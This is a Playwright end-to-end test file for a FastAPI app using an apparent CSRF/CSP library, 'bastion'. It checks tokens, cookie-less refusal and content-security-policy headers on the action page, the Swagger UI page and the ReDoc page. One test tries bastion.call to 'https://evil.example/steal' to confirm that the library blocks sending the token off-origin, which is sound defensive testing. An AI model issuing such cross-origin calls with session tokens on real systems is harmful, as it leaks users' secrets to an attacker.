"""A FastAPI app in Chromium (tests/e2e/fastapi_site.py, served by uvicorn).

- A page's own script calls an action and a protected FastAPI route with
  ``bastion.call``: the token comes from ``csrf_meta()``, the calls pass, under the
  strict CSP (no violation is reported).
- A ``fetch`` without the session cookie is refused 403 ``no_session``.
- Swagger UI (``/docs``) lists the actions beside the routes (``include_in_openapi``),
  by their names.
- Swagger UI (``/docs``) and ReDoc (``/redoc``) render under the relaxed policies that
  docs/guides/fastapi.md names for them, with no CSP violation, while the action page
  keeps the strict, nonce-based default.

Screenshots: build/screenshots/fastapi-*.png.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect
from services import free_port

from .conftest import REPO, Server, start
from .docs_policies import REDOC_CSP, SWAGGER_CSP

NONCE_CSP = re.compile(
    r"default-src 'self'; script-src 'self' 'nonce-([A-Za-z0-9_-]{22})'; "
    r"style-src 'self' 'nonce-\1'; img-src 'self' data:; object-src 'none'; "
    r"base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
"""bastion's default policy, with this response's nonce."""

# Recorded in the page before any of its scripts run: what the CSP refused, if anything.
WATCH_CSP = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__violations.push(e.violatedDirective + " " + e.blockedURI);
});
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The app under uvicorn on loopback, a random key, its own origin allowed."""
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    tmp = tmp_path_factory.mktemp("fastapi")
    env = {
        **os.environ,
        "BASTION_SECRET_KEY": secrets.token_hex(32),
        "BASTION_ALLOWED_ORIGINS": url,
    }
    command = [
        sys.executable,
        "-m",
        "uvicorn",
        "--app-dir",
        str(REPO / "tests"),
        "e2e.fastapi_site:app",
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
    ]
    server = start(command, url, tmp / "uvicorn.log", env)
    try:
        server.wait_until_up("/")
        yield server
    finally:
        server.stop()


def open_page(context: BrowserContext, url: str) -> tuple[Page, dict[str, str]]:
    """``url`` in a new tab watching for CSP violations; the page and its headers."""
    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    response = page.goto(url)
    assert response is not None
    assert response.status == 200
    return page, response.headers


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.__violations")
    return found


def test_bastion_call_reaches_an_action_and_a_protected_route(
    context: BrowserContext, site: Server, screenshots: Path
) -> None:
    """The page's script calls both with bastion.call (the token read from csrf_meta):
    both pass, and the action page's strict CSP refused nothing."""
    page, headers = open_page(context, site.url + "/")
    assert NONCE_CSP.fullmatch(headers["content-security-policy"])
    page.get_by_role("button", name="bastion.call an action").click()
    expect(page.locator("#action-reply")).to_have_text(
        re.compile(r'\{"ok":true,"data":\{"id":\d+,"text":"from the page"\}\}')
    )
    page.get_by_role("button", name="bastion.call a protected route").click()
    expect(page.locator("#route-reply")).to_have_text(
        re.compile(r'\{"id":\d+,"text":"from the page"\}')
    )
    assert violations(page) == []
    page.screenshot(path=screenshots / "fastapi-bastion-call.png")


def test_fetch_without_the_cookie_is_refused_no_session(
    context: BrowserContext, site: Server
) -> None:
    """A script sends the page's token but omits the cookie (credentials: "omit", as a
    browser with cookies off would): 403 no_session, the action's words for it."""
    page, _ = open_page(context, site.url + "/")
    action = page.locator("body").get_attribute("data-action")
    reply = page.evaluate(
        """async (action) => {
            const token = document.querySelector('meta[name="csrf-token"]').content;
            const response = await fetch(action, {
                method: "POST", credentials: "omit", body: "{}",
                headers: {"Content-Type": "application/json", "X-CSRF-Token": token},
            });
            return [response.status, await response.json()];
        }""",
        action,
    )
    assert reply == [
        403,
        {
            "ok": False,
            "error": {
                "code": "no_session",
                "message": (
                    "Your session has ended or cookies are off. Reload the page and try again."
                ),
            },
        },
    ]


def test_bastion_call_refuses_to_send_the_token_to_another_origin(
    context: BrowserContext, site: Server
) -> None:
    """The token is a secret of the page's session: bastion.call rejects a URL of another
    origin before anything is sent."""
    page, _ = open_page(context, site.url + "/")
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    message = page.evaluate(
        """() => bastion.call("https://evil.example/steal", {}).then(
            () => "sent", (error) => error.name + ": " + error.message)"""
    )
    assert message == "TypeError: bastion.call: https://evil.example is not this page's origin"
    assert not [url for url in sent if "evil.example" in url]


def test_swagger_ui_renders_under_its_relaxed_policy(
    context: BrowserContext, site: Server, screenshots: Path
) -> None:
    """/docs gets the guide's SWAGGER_CSP (its inline start-up script runs), Swagger UI
    renders the app's operations, and the policy refused nothing."""
    page, headers = open_page(context, site.url + "/docs")
    assert headers["content-security-policy"] == SWAGGER_CSP
    assert headers["x-frame-options"] == "DENY"
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Notes")
    operation = page.locator(".opblock-post", has_text="/api/notes")
    expect(operation).to_be_visible()
    operation.locator(".opblock-summary").click()
    expect(page.locator(".opblock-body")).to_be_visible()
    assert violations(page) == []
    page.screenshot(path=screenshots / "fastapi-swagger-docs.png", full_page=True)


def test_swagger_ui_lists_the_actions_by_name(
    context: BrowserContext, site: Server, screenshots: Path
) -> None:
    """include_in_openapi: /docs shows the add_note action (its operationId, summary and
    opaque path) under the "actions" tag beside FastAPI's route, and opening it shows its
    request body and its refusals."""
    page, _ = open_page(context, site.url + "/docs")
    action = page.locator(".opblock-post", has_text="add_note")
    expect(action).to_be_visible()
    expect(action.locator(".opblock-summary-description")).to_have_text("Add a note (the action).")
    expect(action.locator(".opblock-summary-path")).to_contain_text("/_actions/")
    expect(page.locator(".opblock-tag", has_text="actions")).to_be_visible()
    expect(page.locator(".opblock-post", has_text="/api/notes")).to_be_visible()
    action.locator(".opblock-summary").click()
    expect(action.locator(".opblock-body")).to_be_visible()
    expect(action.locator(".responses-table")).to_contain_text("403")
    assert violations(page) == []
    screenshots.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=screenshots / "swagger-actions.png", full_page=True)


def test_swagger_ui_is_blank_under_the_strict_default(
    context: BrowserContext, site: Server, screenshots: Path
) -> None:
    """Why /docs needs its own policy (and that the watch above sees refusals): the same
    page on a path csp_for does not name keeps the strict default, and its inline
    start-up script is refused, so Swagger UI never renders."""
    page, headers = open_page(context, site.url + "/strict/docs")
    assert NONCE_CSP.fullmatch(headers["content-security-policy"])
    expect(page.locator("#swagger-ui")).to_be_attached()
    page.wait_for_load_state("load")
    assert "script-src-elem inline" in violations(page)
    expect(page.locator(".swagger-ui .info")).to_have_count(0)
    page.screenshot(path=screenshots / "fastapi-swagger-strict-blank.png")


def test_redoc_renders_under_its_relaxed_policy(
    context: BrowserContext, site: Server, screenshots: Path
) -> None:
    """/redoc gets the guide's REDOC_CSP and renders the API; nothing refused."""
    page, headers = open_page(context, site.url + "/redoc")
    assert headers["content-security-policy"] == REDOC_CSP
    expect(page.locator("h1")).to_contain_text("Notes")
    expect(page.get_by_text("/api/notes").first).to_be_attached()
    assert violations(page) == []
    page.screenshot(path=screenshots / "fastapi-redoc.png")


def test_openapi_json_and_the_action_page_keep_the_strict_policy(
    context: BrowserContext, site: Server
) -> None:
    """Only the docs' paths are relaxed: /openapi.json and the page keep the default."""
    for path in ("/openapi.json", "/"):
        response = context.request.get(site.url + path)
        assert response.status == 200
        assert NONCE_CSP.fullmatch(response.headers["content-security-policy"]), path
    schema = json.loads(context.request.get(site.url + "/openapi.json").text())
    assert "/api/notes" in schema["paths"]
    names = [op["operationId"] for item in schema["paths"].values() for op in item.values()]
    assert "add_note" in names
